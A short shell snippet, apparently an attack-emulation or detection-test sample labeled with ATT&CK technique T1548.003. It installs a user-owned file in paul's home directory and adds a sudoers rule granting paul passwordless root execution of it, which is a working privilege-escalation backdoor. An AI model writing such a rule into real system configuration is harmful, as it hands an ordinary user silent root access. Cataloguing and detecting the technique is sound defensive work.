# technique: T1548.003
# location: linux.sudoers
# source: /etc/sudoers.d/sync
install -D -o paul -m 755 /bin/true /home/paul/bin/sync
echo 'paul ALL=(root) NOPASSWD: /home/paul/bin/sync' > /etc/sudoers.d/sync
chmod 440 /etc/sudoers.d/sync
visudo -c
